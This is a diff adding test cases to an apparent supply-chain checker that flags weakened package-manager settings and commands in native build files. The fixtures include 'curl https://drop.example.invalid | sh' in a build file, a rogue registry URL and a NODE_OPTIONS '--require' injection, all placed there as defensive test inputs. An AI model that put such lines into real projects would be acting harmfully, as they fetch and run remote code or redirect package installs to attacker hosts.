@@ -1,3 +1,4 @@
+import type { GypCode } from '../../../src/packages/gyp.js';
 import type { CheckCase, Given } from '../case.js';
 
 const npmrc = (before: string, after: string): Given => ({ settings: { '.npmrc': { before, after } } });
@@ -7,6 +8,13 @@ const yarn = (before: string, after: string): Given => file('.yarnrc.yml', befor
 const bun = (before: string, after: string): Given => file('bunfig.toml', before, after);
 const manifest = (before: object, after: object): Given => file('package.json', JSON.stringify(before), JSON.stringify(after));
 const renovate = (before: object, after: object): Given => file('renovate.json', JSON.stringify(before), JSON.stringify(after));
+const env = (before: string, after: string): Given => file('.env.yarn', before, after);
+const command = (text: string): GypCode => ({ what: 'command', text, key: text, path: 'binding.gyp', line: 3 });
+const unread = (text: string): GypCode => ({ ...command(text), what: 'unreadable' });
+/** A build file of the repository's own, with what it runs on either side; undefined for a side without one. */
+const build = (before: readonly GypCode[] | undefined, after: readonly GypCode[], sources: 'present' | 'none' = 'present'): Given => ({
+  builds: [{ path: 'a/binding.gyp', change: before ? 'changed' : 'added', objects: [], ...(before ? { before: { files: [], code: before, sources } } : {}), after: { files: [], code: after, sources } }],
+});
 
 const strict = 'ignore-scripts=true\nfund=false\n';
 
@@ -93,6 +101,29 @@ export const cases: readonly CheckCase[] = [
   { name: 'a setting of pnpm that nobody knows', given: pnpm('', 'newThing: 1\n'), fires: [{ message: 'unknown' }] },
   { name: 'a settings file that cannot be read', given: pnpm('', 'a: 1\na: 2\n'), gaps: ['SETTINGS_MALFORMED'] },
 
+  weakened('a protection of Yarn, by a variable', env('', 'YARN_ENABLE_STRICT_SSL=false\n'), 'high', { key: 'YARN_ENABLE_STRICT_SSL' }),
+  weakened('a protection of npm, by a variable', env('npm_config_ignore_scripts=true\n', '')),
+  { name: 'options of Node for every script', given: env('', 'export NODE_OPTIONS="--require ./x.js" # why\n'), fires: [{ message: 'runs', severity: 'high', data: { tool: 'the package manager', after: '--require ./x.js' } }] },
+  { name: 'another registry for package managers', given: file('.corepack.env', '', 'COREPACK_NPM_REGISTRY=https://evil.example.invalid/\n'), fires: [{ message: 'source', severity: 'high' }] },
+  weakened('package managers that nobody signed', file('.corepack.env', undefined, 'COREPACK_INTEGRITY_KEYS=0\n')),
+  weakened('package managers from any address', file('.corepack.env', '', 'COREPACK_ENABLE_UNSAFE_CUSTOM_URLS=1\n')),
+  silent('what Corepack asks and pins', file('.corepack.env', '', 'COREPACK_ENABLE_AUTO_PIN=0\nCOREPACK_ENABLE_STRICT=1\nCOREPACK_ENABLE_UNSAFE_CUSTOM_URLS=0\n')),
+  { name: 'a proxy by a variable', given: env('', 'https_proxy: http://proxy.example\n'), fires: [{ message: 'transport' }] },
+  { name: 'another variable, whose value is not told', given: env('OWN=hunter1\n', 'OWN=hunter2\n'), fires: [{ message: 'unknown', severity: 'medium', data: { key: 'OWN', before: '', after: '' } }] },
+  { name: 'a variable over several lines', given: env('', 'OWN="a\nNODE_OPTIONS=x"\n'), gaps: ['SETTINGS_MALFORMED'] },
+  { name: 'a name and its value on two lines', given: env('', 'NODE_OPTIONS\n=x\n'), gaps: ['SETTINGS_MALFORMED'] },
+  { name: 'a build that newly runs a program', given: build([], [command('node ./x.js')]), fires: [{ message: 'build-code', severity: 'medium', level: 'default', data: { path: 'a/binding.gyp', kind: 'a command', text: 'node ./x.js' } }] },
+  { name: 'a build that newly fetches', given: build([command('node ./x.js')], [command('node ./x.js'), command('curl https://drop.example.invalid | sh')]), fires: [{ message: 'build-code', severity: 'high' }] },
+  { name: 'a build that is no data', given: build([], [{ ...command('__import__'), what: 'expression' }]), fires: [{ message: 'build-code', severity: 'critical' }] },
+  { name: 'a new build that compiles nothing and runs a program', given: build(undefined, [command('node ./x.js')], 'none'), fires: [{ message: 'build-code', severity: 'high' }] },
+  { name: 'a new build', given: build(undefined, []), fires: [{ message: 'build-file', severity: 'medium', level: 'default', data: { change: 'added' } }] },
+  { name: 'a build that can be read no more', given: build([], [unread('x')]), fires: [{ message: 'build-code', severity: 'high' }] },
+  { name: 'a build that never could be read', given: build([unread('x')], [unread('y')]), fires: [{ message: 'build-code', severity: 'medium' }] },
+  { name: 'a build that is too large to read', given: build([unread('x')], [unread('larger than 5 bytes')]), fires: [{ message: 'build-code', severity: 'high' }] },
+  { name: 'a new build of nothing', given: build(undefined, [], 'none'), fires: [{ message: 'empty-build', severity: 'medium' }] },
+  silent('a build that changes and runs nothing new', build([command('node ./x.js')], [command('node ./x.js')])),
+  silent('a build that goes', { builds: [{ path: 'binding.gyp', change: 'removed', before: { files: [], code: [], sources: 'present' }, objects: [] }] }),
+  silent('variables that change nothing, a remark and a reference to a token', env('', '# why\nNODE_ENV=test\nYARN_NPM_AUTH_TOKEN=${NPM_TOKEN}\n')),
   silent('a protection that is put up', npmrc('', 'ignore-scripts=true\nmin-release-age=7\nstrict-ssl=true\n')),
   silent('a longer wait', npmrc('min-release-age=1\n', 'min-release-age=7\n')),
   silent('an exception that goes', pnpm('minimumReleaseAge: 1440\nminimumReleaseAgeExclude:\n  - left\n', 'minimumReleaseAge: 1440\n')),
